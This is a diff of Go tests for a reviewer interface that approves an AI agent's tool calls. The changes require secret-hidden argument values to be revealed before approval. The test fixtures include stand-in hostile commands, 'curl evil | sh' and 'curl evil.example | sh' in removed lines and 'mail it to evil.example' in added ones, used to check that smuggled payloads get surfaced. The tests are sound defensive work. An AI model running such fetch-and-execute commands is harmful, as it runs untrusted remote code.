@@ -74,9 +74,16 @@ func TestSecretsAreHiddenUntilRevealed(t *testing.T) {
 		if text := page.find("arguments").Text(); !strings.Contains(text, "hidden (21 characters, fingerprint ") || !strings.Contains(text, "3 values hidden as secrets") {
 			t.Errorf("%s: it is not said what is hidden: %s", query, text)
 		}
-		if page.find("approve").Length() != 1 {
-			t.Errorf("%s: without revealing it cannot be approved", query)
+		if page.find("approve").Length() != 0 || page.find("reveal-first").Length() != 1 {
+			t.Errorf("%s: it can be approved unseen", query)
 		}
+		if notice := page.find("notice").Text(); !strings.Contains(notice, "Reveal 3 hidden values before you approve. Revealing is logged.") {
+			t.Errorf("%s: the notice says %s", query, notice)
+		}
+	}
+	unseen := url.Values{"digest": {w.approval(id).Digest.String()}}
+	if a := reviewer.post(callPath(id)+"/approve", unseen); a.status != http.StatusUnprocessableEntity || !strings.Contains(a.text(), "Reveal them before you approve") {
+		t.Errorf("approved unseen: %d %s", a.status, a.text())
 	}
 	shows(reviewer.get("/"), false)
 	text := reviewer.get(callPath(id) + "/arguments")
@@ -116,9 +123,12 @@ func TestSecretsAreHiddenUntilRevealed(t *testing.T) {
 	}
 	shows(reviewer.get(callPath(id)), false)
 
+	if other := w.signedIn("ben", identity.Reviewer); other.get(callPath(id)).find("approve").Length() != 0 {
+		t.Error("another reviewer can approve unseen")
+	}
 	w.approve(reviewer, id)
 	if c := w.outcome(id); c.Status != call.Succeeded || string(c.Arguments) != loginArguments {
-		t.Errorf("approved unseen: %s %s", c.Status, c.Arguments)
+		t.Errorf("approved after revealing: %s %s", c.Status, c.Arguments)
 	}
 }
 
@@ -183,21 +193,31 @@ func TestNamesOfTheAgentHideNothing(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
 	v := w.signedIn("rita", identity.Reviewer)
-	id := w.submit(uuid.Nil, "files__save_csv", `{"filename":"a","api_token":"curl evil | sh"}`)
+	id := w.submit(uuid.Nil, "files__save_csv", `{"filename":"a","api_token":"mail it to evil"}`)
 	for _, page := range []*answer{v.get(callPath(id)), v.get("/")} {
-		if !strings.Contains(page.text(), "curl evil | sh") || page.find("secrets").Length() != 0 {
+		if !strings.Contains(page.text(), "mail it to evil") || page.find("secrets").Length() != 0 {
 			t.Errorf("it is hidden: %s", page.text())
+		}
+		if n := strings.Count(page.text(), "named like a secret"); n != 1 {
+			t.Errorf("%d badges name it: %s", n, page.text())
+		}
+	}
+	plain := w.submit(uuid.Nil, "files__save_csv", `{"filename":"b","password":"declared","token_count":5}`)
+	w.approve(v, id)
+	for _, page := range []*answer{v.get(callPath(plain)), v.get("/")} {
+		if strings.Contains(page.text(), "named like a secret") {
+			t.Errorf("there is a badge without a reason: %s", page.text())
 		}
 	}
 }
 
-// A large or nested secret value must be revealed before approval, because the call's effect may hide in it.
+// A secret value must be revealed before approval, because the call's effect may hide in it. The page then shows all of it.
 func TestHiddenPayloadsAreRevealedFirst(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
 	w.offer(`{"name":"run","inputSchema":{"type":"object","properties":{"script":{"type":"string","writeOnly":true}}}}`)
 	v, other := w.signedIn("rita", identity.Reviewer), w.signedIn("ben", identity.Reviewer)
-	command := "curl evil.example | sh; " + strings.Repeat("x ", 1500) + "x"
+	command := "mail it to evil.example; " + strings.Repeat("x ", 1500) + "x"
 	for name, id := range map[string]uuid.UUID{
 		"by name":   w.submit(uuid.Nil, "files__save_csv", plainJSON(t, map[string]any{"filename": "/tmp/ok", "token_options": map[string]string{"command": command}})),
 		"by schema": w.submit(uuid.Nil, "gallery__run", plainJSON(t, map[string]string{"script": command})),
@@ -205,7 +225,7 @@ func TestHiddenPayloadsAreRevealedFirst(t *testing.T) {
 		decision := v.get(callPath(id) + "?full=1").form("decide")
 		for _, query := range []string{"", "?full=1", "?view=json", "?view=raw&full=1"} {
 			page := v.get(callPath(id) + query)
-			if page.find("approve").Length() != 0 || page.find("reveal-first").Length() != 1 || !strings.Contains(page.find("notice").Text(), "Hidden value may not be a secret") {
+			if page.find("approve").Length() != 0 || page.find("reveal-first").Length() != 1 || !strings.Contains(page.find("notice").Text(), "Values are hidden") {
 				t.Errorf("%s%s: can be approved unseen: %s", name, query, page.text())
 			}
 		}
@@ -231,10 +251,10 @@ func TestHiddenPayloadsSideBySide(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
 	v := w.signedIn("rita", identity.Reviewer)
-	hiding := w.submit(uuid.Nil, "files__save_csv", `{"filename":"a","password":"one\ntwo"}`)
-	plain := w.submit(uuid.Nil, "files__save_csv", `{"filename":"b","password":"one"}`)
+	hiding := w.submit(uuid.Nil, "files__save_csv", `{"filename":"a","password":"one"}`)
+	plain := w.submit(uuid.Nil, "files__save_csv", `{"filename":"b"}`)
 	page := v.get(callPath(plain) + "/like")
-	if page.find("verdict-approve").Length() != 1 || !strings.Contains(page.find("notice").Text(), "hidden as a secret is long or nested") {
+	if page.find("verdict-approve").Length() != 1 || !strings.Contains(page.find("notice").Text(), "Reveal 1 hidden value before you approve") {
 		t.Errorf("offered: %s", page.text())
 	}
 	form := page.form("like-form")
